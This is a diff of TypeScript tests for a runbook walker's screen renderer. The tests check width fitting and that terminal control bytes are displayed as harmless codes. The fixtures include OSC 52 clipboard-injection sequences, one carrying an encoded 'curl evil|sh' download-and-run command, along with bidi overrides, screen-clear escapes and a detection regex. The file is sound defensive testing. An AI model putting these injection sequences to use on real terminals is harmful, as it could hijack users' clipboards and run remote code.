@@ -11,6 +11,7 @@ import { parseRunbook } from '../../../src/runbook/parse.js';
 import { stepById } from '../../../src/runbook/steps.js';
 import type { Runbook, Step } from '../../../src/runbook/types.js';
 import { makeEvent } from '../../../src/store/log.js';
+import { textWidth, truncate } from '../../../src/text/wrap.js';
 import { deriveWalk, summarize, type WalkState } from '../../../src/walk/machine.js';
 import {
   type Chalk,
@@ -31,7 +32,12 @@ import {
   stepScreen,
   summaryLine,
   tailLines,
+  tailRows,
 } from '../../../src/walk/screen.js';
+
+/** Bytes that would act on a terminal (ESC, BEL, C1, bidi controls). */
+// biome-ignore lint/suspicious/noControlCharactersInRegex: looking for them is the point
+const ACTIVE_BYTES = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/;
 
 const FENCE = '```';
 const LONG_COMMAND =
@@ -251,7 +257,8 @@ describe('stepScreen', () => {
       { type: 'step.answered', stepId: 'ns', variable: 'namespace', value: 'production' },
       { type: 'step.completed', stepId: 'ns' },
     );
-    expect(stepScreen(plain, moment(state), step('look'), show(state))).toEqual([
+    // Wide enough for the long command on one row (see "fitted to the width" below).
+    expect(stepScreen(plain, moment(state, { width: 120 }), step('look'), show(state))).toEqual([
       '',
       'Step 2 of 8 · SEV2 · 00:42 since start · next update due 03:45',
       'Look around [manual · look]',
@@ -364,6 +371,131 @@ describe('stepScreen', () => {
     expect(stepScreen(tagged, moment(state), step('rollback'), show(state))[2]).toBe(
       'Roll back <dim>[run · rollback]</dim>',
     );
+  });
+});
+
+describe('stepScreen fitted to the width', () => {
+  const LONG_TITLE = 'Roll back the web tier to the last release that passed the canary checks';
+  const BODY =
+    'Open the deploy dashboard and compare the error rate with the rollout; if it rose within five minutes of the release, roll back before anything else.';
+  const NARROW_RUNBOOK = parseRunbook(
+    [
+      '---',
+      'id: narrow',
+      'title: Narrow',
+      '---',
+      '# Narrow',
+      '',
+      `## ${LONG_TITLE}`,
+      '<!-- step: roll-back-web-tier kind: run -->',
+      '',
+      BODY,
+      '',
+      `${FENCE}sh`,
+      LONG_COMMAND,
+      FENCE,
+      '',
+      '## Hostile',
+      '<!-- step: hostile kind: manual -->',
+      '',
+      'Copy this\x1b]52;c;Y3VybCBldmlsfHNo\x07 \u202eetirw\u202c and \u009b2J clear',
+      '',
+    ]
+      .join('\n')
+      .replace(/\\x1b/g, '\x1b')
+      .replace(/\\x07/g, '\x07')
+      .replace(/\\u202e/g, '\u202e')
+      .replace(/\\u202c/g, '\u202c')
+      .replace(/\\u009b/g, '\u009b'),
+    '/rb/narrow.md',
+  ).runbook;
+  const narrowStep = (id: string) => {
+    const found = stepById(NARROW_RUNBOOK, id);
+    if (!found) throw new Error(`no step ${id}`);
+    return found;
+  };
+  const at = (width: number) => ({
+    state: deriveWalk(NARROW_RUNBOOK, [OPENED]),
+    incident: INCIDENT,
+    now: minutesAfterStart(42),
+    drill: true,
+    width,
+  });
+  const screen = (width: number, id = 'roll-back-web-tier') =>
+    stepScreen(plain, at(width), narrowStep(id), (spec) => spec.source);
+  const words = (text: string) => text.split(/\s+/).filter(Boolean);
+
+  it.each([40, 80])('at %i columns no row is wider than the screen', (width) => {
+    for (const row of screen(width)) expect(textWidth(row)).toBeLessThanOrEqual(width);
+    for (const row of screen(width, 'hostile')) expect(textWidth(row)).toBeLessThanOrEqual(width);
+  });
+
+  it.each([40, 80])('at %i columns the body and the command keep every word whole', (width) => {
+    const rows = screen(width);
+    const cells = rows.flatMap(words);
+    for (const word of [...words(BODY), ...words(LONG_COMMAND)]) expect(cells).toContain(word);
+    // Continuation rows sit under the text they continue.
+    const body = rows.slice(rows.findIndex((r) => r.startsWith('  Open')));
+    expect(body.length).toBeGreaterThan(1);
+    for (const row of body) expect(row).toMatch(/^ {2}\S|^ {4}\S|^ {2}\$ /);
+  });
+
+  it.each([40, 80])(
+    'at %i columns the title stays on one row, shortened with an ellipsis',
+    (width) => {
+      const title = screen(width).find((r) => r.startsWith('Roll back'));
+      expect(title).toBeDefined();
+      expect(textWidth(title ?? '')).toBeLessThanOrEqual(width);
+      expect(title).toContain('…');
+    },
+  );
+
+  it('keeps the [kind · id] tag when there is room for a readable title, and drops it when not', () => {
+    const wide = screen(80).find((r) => r.startsWith('Roll back'));
+    expect(wide?.endsWith('[run · roll-back-web-tier]')).toBe(true);
+    const narrow = screen(40).find((r) => r.startsWith('Roll back'));
+    expect(narrow).toBe(truncate(LONG_TITLE, 40));
+  });
+
+  it('breaks the header only between its parts', () => {
+    const rows = screen(40).slice(1, 4);
+    expect(rows[0]).toBe('DRILL · Step 1 of 2 · SEV2');
+    expect(rows.join(' · ')).toBe(headerLine(at(40)));
+    for (const row of rows) expect(row).not.toMatch(/Step \d+$|^of /);
+  });
+
+  it('shows runbook text that would drive the terminal as codes', () => {
+    const rows = screen(80, 'hostile');
+    const text = rows.join('\n');
+    expect(text).toContain(
+      'Copy this\\x1b]52;c;Y3VybCBldmlsfHNo\\x07 \\u202eetirw\\u202c and \\x9b2J clear',
+    );
+    expect(text).not.toMatch(ACTIVE_BYTES);
+  });
+});
+
+describe('tailRows', () => {
+  const OUTPUT = [
+    'NAME                         READY   STATUS             RESTARTS   AGE',
+    'web-7d4b9c6f5d-2xkqp         0/1     CrashLoopBackOff   12         41m',
+    'steal\x1b]52;c;ZWNobyBvd25lZA==\x07 the clipboard, \x1b[2J clear, \u202ereverse',
+  ].join('\n');
+
+  it.each([40, 80])('at %i columns every row is in the gutter and fits', (width) => {
+    const rows = tailRows(OUTPUT, width);
+    expect(rows.length).toBeGreaterThanOrEqual(3);
+    for (const row of rows) {
+      expect(row.startsWith('  │ ')).toBe(true);
+      expect(textWidth(row)).toBeLessThanOrEqual(width);
+    }
+  });
+
+  it('shows escapes in the output as codes', () => {
+    const rows = tailRows(OUTPUT, 200);
+    expect(rows[2]).toBe(
+      '  │ steal\\x1b]52;c;ZWNobyBvd25lZA==\\x07 the clipboard, \\x1b[2J clear, \\u202ereverse',
+    );
+    expect(rows.join('\n')).not.toMatch(ACTIVE_BYTES);
   });
 });
 
